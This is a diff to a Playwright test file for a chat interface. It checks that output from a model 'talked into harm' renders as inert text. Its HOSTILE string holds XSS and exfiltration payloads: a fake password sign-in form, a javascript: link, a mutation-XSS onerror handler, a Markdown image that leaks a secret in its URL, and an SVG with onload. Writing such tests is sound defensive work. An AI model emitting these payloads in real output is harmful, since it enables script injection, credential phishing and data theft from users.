@@ -1,11 +1,11 @@
 """A model that was talked into harm writes Markdown and HTML; nothing of it runs, fetches, submits or misleads."""
 
+from playwright.sync_api import Locator, Page, expect
+
 from chat_page import Chat
 from lab_page import LabPage
-from playwright.sync_api import Locator, Page, expect
-from sink import stranger
-
 from model_server import Call, ModelServer, Reply
+from sink import stranger
 
 HOSTILE = """\
 The beginning.
@@ -17,7 +17,7 @@ The beginning.
 <form action="{url}/form"><input name=password autofocus><button>Sign in again</button></form>
 <video src="{url}/video.mp4" poster="{url}/poster.png" autoplay></video> <object data="{url}/object"></object>
 <a href="javascript:window.harmed = 'html link'">html link</a> <base href="{url}/base/">
-<math><mtext><table><mglyph><style><img src=x onerror="window.harmed = 'mutation'"></style></mglyph></table></mtext></math>
+<math><mtext><table><mglyph><style><img src=x onerror="window.harmed = 'mutation'"></style></mglyph></table></mtext>
 
 ![a chart]({url}/leak.png?secret=README) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imhhcm1lZCI+PC9zdmc+)
 
@@ -101,5 +101,6 @@ def test_hostile_names_results_and_errors_are_only_text(page: LabPage, model: Mo
 
 
 def _unfold_all(chat: Chat) -> None:
-    for folded in chat.root.locator("[aria-expanded=false]:not([aria-haspopup], .dsp-chip)").all():
-        folded.click(position={"x": 6, "y": 8})
+    folded = chat.root.locator(".dsp-content [aria-expanded=false]")
+    while folded.count():
+        folded.first.click(position={"x": 6, "y": 8})
